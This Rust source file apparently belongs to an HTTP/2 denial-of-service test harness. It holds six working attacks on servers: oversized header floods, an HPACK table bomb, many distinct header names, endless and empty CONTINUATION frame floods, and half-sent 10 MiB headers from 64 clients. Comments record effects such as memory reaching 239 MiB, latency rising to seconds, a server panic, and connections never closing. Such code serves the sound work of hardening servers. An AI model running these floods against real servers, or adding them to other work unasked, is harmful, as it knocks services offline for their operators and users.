//! Heads: fields without number, without end, or larger than they look.

use std::io;

use super::{Attack, flood};
use crate::hostile::{Hostile, h2};

pub const ATTACKS: &[Attack] = &[
    flood(
        "h2-fields",
        "Send heads of 40,000 fields.",
        "11 → 239 MiB, others' p50 0.65 ms → 1.4 s",
        |client| Box::pin(fields(client)),
    ),
    flood(
        "h2-hpack-bomb",
        "Put a field of 4 KiB into the table, and name it 16,000 times in a head, a byte each.",
        "others' p50 0.6 s",
        |client| Box::pin(hpack_bomb(client)),
    ),
    flood("h2-field-names", "Send heads of 24,577 different names.", "a panic", |client| {
        Box::pin(field_names(client))
    }),
    flood(
        "h2-continuations",
        "Send a head that does not end, as fast as possible.",
        "never closed",
        |client| Box::pin(continuations(client, h2::FRAME_MAX)),
    ),
    flood(
        "h2-empty-continuations",
        "As h2-continuations, with empty frames.",
        "not measured",
        |client| Box::pin(continuations(client, 0)),
    ),
    Attack {
        clients: 64,
        ..flood("h2-half-heads", "Send 10 MiB of a head, and wait.", "10 MiB each", |client| {
            Box::pin(half_head(client))
        })
    },
];

async fn fields(client: Hostile) -> io::Result<()> {
    let fields = h2::literal("a", "b").repeat(40_000);
    requests(client, Vec::new(), move |_| fields.clone()).await
}

async fn hpack_bomb(client: Hostile) -> io::Result<()> {
    // An entry counts 32 bytes more than its name and value: this one fills the table of 4,096.
    let first = h2::literal_indexed("a", &"b".repeat(4_096 - 32 - 1));
    requests(client, first, |_| vec![h2::NEWEST; 16_000]).await
}

async fn field_names(client: Hostile) -> io::Result<()> {
    let names = (0..24_577).flat_map(|number| h2::literal(&format!("x{number}"), ""));
    let names: Vec<u8> = names.collect();
    requests(client, Vec::new(), move |_| names.clone()).await
}

/// Sends requests of which the first has further fields, and each what `more` makes.
async fn requests(
    client: Hostile,
    first: Vec<u8>,
    more: impl Fn(u32) -> Vec<u8>,
) -> io::Result<()> {
    let mut connection = client.connect().await?;
    connection.send(&h2::opening(&[])).await?;
    let mut streams = h2::streams();
    connection
        .flood(move || {
            let stream = streams.next()?;
            let mut block = h2::fields("GET", "/");
            if stream == 1 {
                block.extend(&first);
            }
            block.extend(more(stream));
            Some(h2::headers(stream, h2::END_STREAM, &block))
        })
        .await
}

async fn continuations(client: Hostile, length: usize) -> io::Result<()> {
    let mut connection = client.connect().await?;
    connection.send(&half_opening()).await?;
    let more = h2::frame(h2::CONTINUATION, 0, 1, &fields_of(length));
    // A write for each empty frame would cost this program more than the server.
    let many = more.repeat((h2::FRAME_MAX / more.len()).max(1));
    connection.flood(move || Some(many.clone())).await
}

async fn half_head(client: Hostile) -> io::Result<()> {
    let mut connection = client.connect().await?;
    connection.send(&half_opening()).await?;
    let more = h2::frame(h2::CONTINUATION, 0, 1, &fields_of(h2::FRAME_MAX));
    let mut left = (10 << 20) / h2::FRAME_MAX;
    connection
        .flood(move || {
            left = left.checked_sub(1)?;
            Some(more.clone())
        })
        .await
}

/// The opening, and the beginning of a head.
fn half_opening() -> Vec<u8> {
    let begun = h2::frame(h2::HEADERS, h2::END_STREAM, 1, &h2::fields("GET", "/"));
    [h2::opening(&[]), begun].concat()
}

/// Fields of `length` bytes or a little less.
fn fields_of(length: usize) -> Vec<u8> {
    let field = h2::literal("a", &"b".repeat(100));
    field.repeat(length / field.len())
}
